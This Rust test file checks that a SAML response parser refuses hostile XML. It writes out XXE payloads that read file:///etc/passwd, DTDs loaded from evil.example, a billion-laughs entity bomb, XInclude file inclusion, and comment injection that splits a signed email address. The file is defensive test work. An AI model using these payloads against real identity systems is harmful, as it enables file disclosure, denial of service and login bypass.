//! XML that no identity provider sends (A4, A5, A9).

use enroll_saml::Reason;
use enroll_testkit::idp::{Dialect, Signed};

use crate::world::{World, key};

/// The world and a good response in the form of Entra ID.
fn good(signed: Signed) -> (World, String) {
    let world = World::of(Dialect::Entra);
    let mut spec = world.spec(Dialect::Entra);
    spec.signed = signed;
    let xml = spec.xml(key());
    (world, xml)
}

#[test]
fn threat_a9_document_types_and_entities() {
    let (world, xml) = good(Signed::Assertion);
    let many = "<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;\">";
    for (name, document, reason) in [
        ("doctype", format!("<!DOCTYPE samlp:Response>{xml}"), Reason::Doctype),
        ("external", format!("<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\">{xml}"), Reason::Doctype),
        ("public", format!("<!DOCTYPE r PUBLIC \"-//x//EN\" \"file:///etc/passwd\">{xml}"), Reason::Doctype),
        ("xxe", format!("<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>{xml}"), Reason::Doctype),
        (
            "parameter",
            format!("<!DOCTYPE r [<!ENTITY % x SYSTEM \"http://evil.example/\"> %x;]>{xml}"),
            Reason::Doctype,
        ),
        ("laughs", format!("<!DOCTYPE r [{many}]>{}", xml.replace("ada@", "&#97;da@")), Reason::Doctype),
        (
            "attribute default",
            format!("<!DOCTYPE r [<!ATTLIST samlp:Response ID CDATA \"x\">]>{xml}"),
            Reason::Doctype,
        ),
        ("late", format!("{xml}<!DOCTYPE r>"), Reason::Doctype),
        ("declaration inside", xml.replacen("<Subject>", "<!ENTITY x \"y\"><Subject>", 1), Reason::Doctype),
        ("undefined entity", xml.replacen("ada@", "&ada;@", 1), Reason::Entity),
        ("html entity", xml.replacen("ada@", "&eacute;@", 1), Reason::Entity),
        ("bare ampersand", xml.replacen("ada@", "a&b@", 1), Reason::Entity),
        ("nul", xml.replacen("ada@", "&#0;@", 1), Reason::Malformed),
        ("no character", xml.replacen("ada@", "&#xFFFF;@", 1), Reason::Malformed),
    ] {
        assert_eq!(world.refusal_of_xml(document), reason, "{name}");
    }
}

#[test]
fn threat_a9_inclusion() {
    let (world, xml) = good(Signed::Assertion);
    let include = "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\" parse=\"text\"/>";
    for to in [format!("{include}<Subject>"), format!("<Subject>{include}")] {
        assert_eq!(world.refusal_of_xml(xml.replacen("<Subject>", &to, 1)), Reason::Xinclude);
    }
}

/// Canonicalization leaves comments out, so a signature goes on verifying with them: `ada@example.com<!---->.evil.example`.
#[test]
fn threat_a5_comments_processing_instructions_and_cdata_in_names() {
    for signed in [Signed::Assertion, Signed::Response, Signed::Both] {
        let (world, xml) = good(signed);
        for (inserted, reason) in [
            ("<!---->", Reason::Comment),
            ("<!-- - -->", Reason::Comment),
            ("<?x?>", Reason::ProcessingInstruction),
            ("<?xml version=\"1.0\"?>", Reason::ProcessingInstruction),
            ("<![CDATA[]]>", Reason::Cdata),
            ("<![CDATA[x]]>", Reason::Cdata),
        ] {
            for at in ["ada@", "<Subject>", "Engineering", "<samlp:Status>"] {
                let altered = xml.replacen(at, &format!("{inserted}{at}"), 1);
                assert_eq!(world.refusal_of_xml(altered), reason, "{inserted} before {at}");
            }
            assert_eq!(world.refusal_of_xml(format!("{xml}{inserted}")), reason, "{inserted} at the end");
        }
    }
}

#[test]
fn threat_a4_encodings() {
    let (world, xml) = good(Signed::Assertion);
    let utf_16 = |bytes: fn(u16) -> [u8; 2]| xml.encode_utf16().flat_map(bytes).collect::<Vec<u8>>();
    let big = [vec![0xfe, 0xff], utf_16(u16::to_be_bytes)].concat();
    let little = [vec![0xff, 0xfe], utf_16(u16::to_le_bytes)].concat();
    for (name, bytes) in [
        ("UTF-16 with mark", big),
        ("UTF-16 little with mark", little),
        ("UTF-16", utf_16(u16::to_be_bytes)),
        ("UTF-16 little", utf_16(u16::to_le_bytes)),
        ("Latin 1", xml.replace("ada@", "ad\u{e9}@").chars().map(|c| c as u8).collect()),
        ("overlong", [xml.as_bytes(), b"\xc0\xbc"].concat()),
        ("surrogate", [xml.as_bytes(), b"\xed\xa0\x80"].concat()),
        ("cut off", [xml.as_bytes(), b"\xe2\x82"].concat()),
        ("NUL", [xml.as_bytes(), b"\0"].concat()),
        ("declared", format!("<?xml version=\"1.0\" encoding=\"UTF-16\"?>{xml}").into_bytes()),
        ("UTF-7", format!("<?xml version=\"1.0\" encoding=\"UTF-7\"?>{xml}").into_bytes()),
        ("XML 1.1", format!("<?xml version=\"1.1\"?>{xml}").into_bytes()),
        ("odd declaration", format!("<?xml encoding=\"UTF-8\" version=\"1.0\"?>{xml}").into_bytes()),
    ] {
        assert_eq!(world.refusal_of_xml(bytes), Reason::NotUtf8, "{name}");
    }
}

#[test]
fn threat_a4_attributes_and_namespaces_that_parsers_read_differently() {
    let (world, xml) = good(Signed::Assertion);
    for (name, from, to, reason) in [
        (
            "attribute twice",
            " Version=\"2.0\"",
            " Version=\"2.0\" Version=\"2.0\"",
            Reason::DuplicateAttribute,
        ),
        (
            "by two prefixes",
            "<Subject>",
            "<Subject xmlns:a=\"urn:x\" xmlns:b=\"urn:x\" a:c=\"\" b:c=\"\">",
            Reason::DuplicateAttribute,
        ),
        ("default namespace twice", "<Assertion ", "<Assertion xmlns=\"urn:x\" ", Reason::DuplicateAttribute),
        (
            "prefix twice",
            "<Subject>",
            "<Subject xmlns:a=\"urn:x\" xmlns:a=\"urn:y\">",
            Reason::DuplicateAttribute,
        ),
        ("relative namespace", "<Subject>", "<Subject xmlns:a=\"../x\">", Reason::NamespaceUri),
        ("relative default", "<Subject>", "<Subject xmlns=\"x\">", Reason::NamespaceUri),
        ("empty namespace of a prefix", "<Subject>", "<Subject xmlns:a=\"\">", Reason::NamespaceUri),
        ("scheme of digits", "<Subject>", "<Subject xmlns:a=\"1:x\">", Reason::NamespaceUri),
        ("xml prefix elsewhere", "<Subject>", "<Subject xmlns:xml=\"urn:x\">", Reason::Malformed),
        (
            "xml namespace elsewhere",
            "<Subject>",
            "<Subject xmlns:a=\"http://www.w3.org/XML/1998/namespace\">",
            Reason::Malformed,
        ),
        (
            "xmlns namespace",
            "<Subject>",
            "<Subject xmlns:a=\"http://www.w3.org/2000/xmlns/\">",
            Reason::Malformed,
        ),
        ("undeclared prefix", "<Subject>", "<Subject a:b=\"\">", Reason::Malformed),
        ("less-than in a value", "<Subject>", "<Subject a=\"<\">", Reason::Malformed),
        ("no quotes", "<Subject>", "<Subject a=b>", Reason::Malformed),
        ("no value", "<Subject>", "<Subject a>", Reason::Malformed),
        ("two roots", "</samlp:Response>", "</samlp:Response><x/>", Reason::Malformed),
        ("text behind", "</samlp:Response>", "</samlp:Response>x", Reason::Malformed),
        ("crossed", "</Subject>", "</subject>", Reason::Malformed),
        ("not closed", "</samlp:Response>", "", Reason::Malformed),
        ("closed twice", "</samlp:Response>", "</samlp:Response></samlp:Response>", Reason::Malformed),
        ("control character", "ada@", "\u{1}@", Reason::Malformed),
    ] {
        let altered = xml.replacen(from, to, 1);
        assert_ne!(altered, xml, "{name}");
        assert_eq!(world.refusal_of_xml(altered), reason, "{name}");
    }
}

/// An empty default namespace takes an element out of SAML: it is not found, and what is signed changes.
#[test]
fn threat_a4_elements_taken_out_of_their_namespace() {
    let (world, xml) = good(Signed::Assertion);
    for (from, reason) in [
        ("<Assertion xmlns=\"urn:oasis:names:tc:SAML:2.0:assertion\"", Reason::NoAssertion),
        ("<SignedInfo", Reason::SignatureForm),
        ("<Conditions", Reason::DigestMismatch),
    ] {
        let name = from.split(' ').next().unwrap();
        let altered = xml.replacen(from, &format!("{name} xmlns=\"\""), 1);
        assert_ne!(altered, xml);
        assert_eq!(world.refusal_of_xml(altered), reason, "{name}");
    }
}
